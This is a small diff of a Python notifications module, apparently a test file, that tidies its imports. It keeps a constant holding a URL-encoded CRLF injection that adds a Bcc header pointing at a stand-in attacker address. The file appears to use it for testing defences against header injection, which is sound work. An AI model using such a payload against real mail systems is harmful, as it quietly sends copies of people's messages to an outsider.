@@ -21,8 +21,7 @@ from thidua.notifications.render import Message
 from thidua.notifications.send import send
 
 from thidua.errors import RegistryError, ThiduaError
-from thidua.registry import contacts
-from thidua.registry.units import Unit, UnitKind, parse_registry
+from thidua.registry import Unit, UnitKind, contacts, parse_registry
 
 CRLF_BCC = "%0d%0aBcc:spy@evil.example"
 #: what each injection looks like after one, two and three rounds of encoding
